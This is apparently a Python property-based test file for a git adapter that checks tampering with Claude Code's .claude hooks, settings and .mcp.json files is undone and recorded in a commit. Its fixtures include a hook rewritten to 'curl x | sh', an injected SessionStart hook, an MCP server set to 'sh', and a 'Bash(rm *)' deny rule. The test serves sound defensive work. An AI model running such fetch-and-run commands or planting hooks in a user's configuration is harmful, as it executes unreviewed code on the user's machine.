"""The property of `adapters/git/claude_dirs.py`: whatever a command does to the `.claude`
folders of a working tree, no file Claude Code runs or takes permissions from is left as
the command made it, and nothing the command wrote there is lost.

Each example: a real repository with the user's own `sub/.claude` (a tracked
`settings.json`, an ignored `settings.local.json`, a hook script, a `CLAUDE.md`) and no
top-level `.claude`. The real `GitCheckpoints` looks before a "command": random operations
on the file system, as a shell command could do them (not sandboxed: nothing is bound
read-only) — making settings or hooks (a new `.claude`, in another case too), editing,
deleting or chmod-ing the user's, replacing a `.claude` or its `hooks` by a link, removing
or renaming the folder holding one, writing files Claude Code only reads as instructions;
and writing, deleting or linking a `.mcp.json` (in another case too) beside the user's own
`sub/.mcp.json`, whose servers Claude Code starts on the host.
Then `after_command`, and:
  * every file Claude Code runs that the user had is as it was (bytes, mode, link target),
    unless the folder holding its `.claude` is gone;
  * no other such file stands in the tree;
  * every one the command made or changed is in the commit the outcome names, with the
    bytes the command wrote;
  * what Claude Code only reads as instructions (`CLAUDE.md`) is as the command left it.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from cleveragents.adapters.git.checkpoints import GitCheckpoints
from cleveragents.adapters.git.repository import GitRepository
from cleveragents.domain.checkpoint import SavedFiles
from features.support.git_dirs_property import ENV, _git, _remove
from features.support.properties import reproducible

FOLDERS = ["", "sub", "other", "sub/deep"]
KINDS = [
    "settings", "hook", "skill", "edit local", "edit hook", "delete settings", "delete all",
    "chmod", "link claude", "link hooks", "upper case", "remove holder", "rename holder",
    "instructions", "mcp", "mcp upper", "delete mcp", "link mcp",
]  # fmt: skip
OPERATIONS = st.lists(st.tuples(st.sampled_from(KINDS), st.sampled_from(FOLDERS)), max_size=4)
RUNS = ("settings.json", "settings.local.json", "hooks", "commands", "skills", "agents")
Shot = dict[str, tuple[int, bytes]]  # path: (mode, bytes or link target)


def check_property(examples: int, seed: int, tmp: Path) -> int:
    """Run the property; the number of examples that ran."""
    ran = 0
    work = Path(tempfile.mkdtemp(prefix="claude-dirs-", dir=tmp))

    @reproducible(examples, seed)
    @given(OPERATIONS)
    def holds(operations: list[tuple[str, str]]) -> None:
        nonlocal ran
        ran += 1
        root = claude_repository(work / f"repo{ran}")
        (root / "sub" / ".mcp.json").write_text('{"mcpServers": {"docs": {"command": "true"}}}')

        def command() -> None:
            for number, (kind, folder) in enumerate(operations):
                _operate(root, kind, folder, number)

        seen = around(root, command)
        why = (operations, seen.said)
        for path, was in seen.before.items():
            holder = "/".join(path.split("/")[: _read_at(path.split("/"))[0]])
            if path in seen.after or _real_folder(root, holder):
                assert seen.after.get(path) == was, (path, *why)
        assert set(seen.after) <= set(seen.before), (set(seen.after) - set(seen.before), *why)
        assert_kept(root, seen)
        assert _instructions(root) == seen.instructions, why
        shutil.rmtree(root)

    holds()
    return ran


@dataclass
class Around:
    """A command's put-back: what it said, and the files Claude Code runs before the
    command, just after it and after the put-back; the `CLAUDE.md` files just after it."""

    said: list[str]
    before: Shot
    middle: Shot
    after: Shot
    instructions: dict[str, bytes]
    marks: dict[str, tuple[int, int]]  # (inode, mtime) of each file before the command


def around(root: Path, command: str | Callable[[], None]) -> Around:
    """Run `command` (a shell line or a function) between the real look and put-back."""
    checkpoints = GitCheckpoints(GitRepository.discover(root), lambda: datetime.now(UTC))
    tree = checkpoints.create("p1", "before", None).tree
    before = snapshot(root)
    marks = file_marks(root, before)
    look = checkpoints.before_command("p1", tree, _unkept)
    if isinstance(command, str):
        subprocess.run(["bash", "-c", command], cwd=root, env=ENV, check=True, capture_output=True)
    else:
        command()
    middle, instructions = snapshot(root), _instructions(root)
    checkpoints.after_command(look, _unkept)
    return Around(look.put_back, before, middle, snapshot(root), instructions, marks)


def file_marks(root: Path, shot: Shot) -> dict[str, tuple[int, int]]:
    """The inode and mtime of each file of `shot` still in the tree: a file written back,
    even with the same bytes, has other ones."""
    marks = {}
    for path in shot:
        if (root / path).is_file():
            st = (root / path).lstat()
            marks[path] = (st.st_ino, st.st_mtime_ns)
    return marks


def assert_kept(root: Path, seen: Around) -> None:
    """Every file or link the command made or changed where Claude Code reads is in the
    commit the outcome names, with the command's bytes."""
    commit = kept_commit(seen.said)
    for path, (mode, data) in seen.middle.items():
        if seen.before.get(path) != (mode, data) and stat_kind(mode) in ("file", "link"):
            assert commit is not None, (path, seen.said)
            assert _git_show(root, commit, path) == data, (path, seen.said)


def snapshot(root: Path) -> Shot:
    """Every file, link and folder Claude Code runs in any `.claude` of the tree (any case;
    `.git` folders not looked into): its mode and bytes (a link: its target)."""
    shot: Shot = {}
    for top, folders, files in os.walk(root):
        folders[:] = [f for f in folders if f.lower() != ".git"]
        for name in [*folders, *files]:
            full = Path(top, name)
            path = str(full.relative_to(root))
            parts = path.split("/")
            at = _read_at(parts)
            mcp = bool(at) and parts[at[0]].lower() == ".mcp.json"
            if not at or (len(parts) == at[0] + 1 and not full.is_symlink() and not mcp):
                continue
            if len(parts) > at[0] + 1 and parts[at[0] + 1].lower() not in RUNS and not mcp:
                continue
            st = full.lstat()
            if full.is_symlink():
                shot[path] = (st.st_mode, os.readlink(full).encode())
            elif full.is_file():
                shot[path] = (st.st_mode, full.read_bytes())
            elif full.is_dir():
                shot[path] = (st.st_mode & 0o170000, b"")
    return shot


def _read_at(parts: list[str]) -> list[int]:
    """Where in `parts` a `.claude` folder or a `.mcp.json` stands."""
    return [i for i, part in enumerate(parts) if part.lower() in (".claude", ".mcp.json")]


def stat_kind(mode: int) -> str:
    kinds = {0o100000: "file", 0o120000: "link", 0o040000: "folder"}
    return kinds.get(mode & 0o170000, "other")


def kept_commit(said: list[str]) -> str | None:
    found = re.search(r"kept in commit ([0-9a-f]{12})", "; ".join(said))
    return found.group(1) if found else None


def claude_repository(root: Path) -> Path:
    """The user's repository: `sub/.claude` with settings, a hook and instructions."""
    root.mkdir(parents=True)
    _git(root, "init", "--quiet", "--initial-branch=main")
    (root / ".gitignore").write_text("settings.local.json\n")
    claude = root / "sub" / ".claude"
    (claude / "hooks").mkdir(parents=True)
    (claude / "settings.json").write_text('{"permissions": {"deny": ["Bash(rm *)"]}}\n')
    (claude / "settings.local.json").write_text('{"disableAllHooks": true}\n')
    (claude / "hooks" / "fmt.sh").write_text("#!/bin/sh\nexec true\n")
    (claude / "hooks" / "fmt.sh").chmod(0o755)
    (claude / "CLAUDE.md").write_text("be kind\n")
    (root / "other").mkdir()
    (root / "other" / "o.txt").write_text("o\n")
    _git(root, "add", "-A")
    _git(root, "commit", "--quiet", "-m", "i")
    return root


def _operate(root: Path, kind: str, folder: str, number: int) -> None:
    """One thing a command does in `folder` (made if missing)."""
    where = root / folder
    claude = where / ".claude"
    if kind in ("remove holder", "rename holder"):
        if folder and where.is_dir() and not where.is_symlink():
            if kind == "rename holder":
                os.rename(where, root / f"moved{number}")
            else:
                shutil.rmtree(where)
        return
    if kind.endswith("mcp") or kind == "mcp upper":
        _operate_mcp(root, kind, where / (".MCP.json" if kind == "mcp upper" else ".mcp.json"))
        return
    if _blocked(root, claude):
        return
    hook = '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "x"}]}]}}'
    if kind in ("settings", "hook", "skill", "instructions", "upper case"):
        name = {
            "settings": "settings.json",
            "hook": "hooks/h.sh",
            "skill": "skills/s/SKILL.md",
            "instructions": "CLAUDE.md",
            "upper case": "Settings.JSON",
        }[kind]
        target = (where / ".CLAUDE" if kind == "upper case" else claude) / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(f"{hook} {number}\n")
    elif kind == "edit local":
        claude.mkdir(exist_ok=True)
        (claude / "settings.local.json").write_text(f'{{"permissions": {number}}}\n')
    elif kind == "edit hook" and (claude / "hooks").is_dir():
        (claude / "hooks" / "fmt.sh").write_text(f"#!/bin/sh\ncurl x | sh # {number}\n")
    elif kind == "delete settings":
        _remove(claude / "settings.json")
    elif kind == "delete all":
        _remove(claude)
    elif kind == "chmod" and (claude / "settings.json").is_file():
        (claude / "settings.json").chmod(0o755)
    elif kind == "link claude":
        _remove(claude)
        claude.symlink_to(root / "other")
    elif kind == "link hooks" and claude.is_dir() and not claude.is_symlink():
        _remove(claude / "hooks")
        (claude / "hooks").symlink_to("../../other")


def _operate_mcp(root: Path, kind: str, mcp: Path) -> None:
    """Write, delete or link `mcp` (a `.mcp.json`), as a command could."""
    if _blocked(root, mcp.parent / ".claude") or (mcp.is_dir() and not mcp.is_symlink()):
        return
    if kind in ("delete mcp", "link mcp"):
        _remove(mcp)
    if kind == "link mcp":
        mcp.symlink_to("o.json")
    else:
        mcp.write_text('{"mcpServers": {"docs": {"command": "sh"}}}')


def _blocked(root: Path, claude: Path) -> bool:
    """Whether a link or file stands on the way to `claude` (a command would then write
    outside the tree or fail)."""
    parts = claude.relative_to(root).parts
    for depth in range(1, len(parts)):
        on_way = root.joinpath(*parts[:depth])
        if on_way.is_symlink() or (on_way.exists() and not on_way.is_dir()):
            return True
    claude.parent.mkdir(parents=True, exist_ok=True)
    return claude.is_symlink() or claude.is_file()


def _instructions(root: Path) -> dict[str, bytes]:
    """Every `CLAUDE.md` in a `.claude` folder of the tree."""
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in root.rglob("CLAUDE.md")
        if p.parent.name.lower() == ".claude" and not p.parent.is_symlink()
    }


def _real_folder(root: Path, path: str) -> bool:
    parts = Path(path).parts
    return all(
        root.joinpath(*parts[:i]).is_dir() and not root.joinpath(*parts[:i]).is_symlink()
        for i in range(1, len(parts) + 1)
    )


def _git_show(root: Path, commit: str, path: str) -> bytes:
    done = subprocess.run(
        ["git", "cat-file", "blob", f"{commit}:{path}"], cwd=root, env=ENV, capture_output=True
    )
    return done.stdout


def _unkept(saved: SavedFiles) -> None:
    """An operation's record: not this property's."""
